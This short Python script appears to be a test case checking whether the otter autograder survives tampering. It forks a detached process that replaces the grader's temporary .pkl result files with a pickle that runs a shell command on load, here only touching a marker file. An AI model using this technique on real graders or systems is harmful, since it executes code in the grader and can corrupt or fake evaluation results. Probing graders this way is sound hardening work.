# Puts a pickle that runs code into the place of otter's results, and of everything else that a grader might load.
# promise: no dead grader
# status: graded
# score: 0
# prints: tried
# upstream: otter
# %% last
import glob
import os
import pickle
import tempfile
import time


class Payload:
    def __reduce__(self): return os.system, ("touch ${HOME}/unpickled-by-the-grader",)


print("tried")
if os.fork() == 0:
    os.setsid()
    until = time.monotonic() + 20
    while time.monotonic() < until:
        for path in glob.glob(tempfile.gettempdir() + "/*.pkl"):
            if os.path.getsize(path):
                with open(path, "wb") as file:
                    pickle.dump(Payload(), file)
                os._exit(0)
        time.sleep(0.002)
    os._exit(0)
